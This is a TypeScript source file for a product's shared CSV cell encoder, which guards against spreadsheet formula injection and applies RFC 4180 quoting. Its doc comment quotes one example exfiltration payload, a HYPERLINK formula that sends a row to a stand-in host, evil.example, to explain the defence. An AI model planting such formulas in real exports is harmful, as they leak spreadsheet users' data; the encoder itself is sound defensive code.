/**
 * The one CSV cell encoder for every CSV the product writes (sample, donor and
 * specimen exports, the CLI export, call statistics).
 *
 * A spreadsheet opening a CSV runs a cell that starts with = + - @ as a formula
 * (`=HYPERLINK("http://evil.example/?"&A2,"x")` sends the row away when
 * clicked), and a leading tab or carriage return is trimmed before that check.
 * Following OWASP's advice on CSV injection, such a cell gets a single quote in
 * front, which spreadsheets show as text and never evaluate. Quoting follows
 * RFC 4180: a field with a comma, quote or line break, or with spaces at
 * either end (which spreadsheets would trim), is quoted with quotes doubled.
 *
 * Columns are of two kinds. A `text` column may hold anything a person typed
 * (identifiers, kinds, attribute values, names), so every such cell is
 * neutralised, even `-0.5`: we cannot tell a number a user meant from a formula
 * a user planted. A `number` column holds figures the product itself formats
 * (quantities, counts, temperatures): a plain decimal there, `-80` included,
 * stays as it is so spreadsheets read it as the number it is; anything else
 * that turns up in such a column is treated as text and neutralised.
 */
export type CsvColumn = 'text' | 'number';

/** Starts like a formula: = + - @ first (after any spaces), or a tab, CR or LF first. */
const FORMULA_START = /^(?:\s*[=+\-@]|[\t\r\n])/;
const PLAIN_DECIMAL = /^-?\d+(?:\.\d+)?$/;

export function csvCell(value: string | number | null | undefined, column: CsvColumn = 'text'): string {
  let text = value === null || value === undefined ? '' : String(value);
  // A JavaScript number never carries user text, so it is a number column wherever it appears.
  const isFigure = (column === 'number' || typeof value === 'number') && PLAIN_DECIMAL.test(text);
  if (!isFigure && FORMULA_START.test(text)) text = `'${text}`;
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record with its CRLF; `columns[i]` says what kind column i is (text when absent). */
export function csvLine(cells: ReadonlyArray<string | number | null | undefined>, columns: readonly CsvColumn[] = []): string {
  return `${cells.map((cell, i) => csvCell(cell, columns[i] ?? 'text')).join(',')}\r\n`;
}
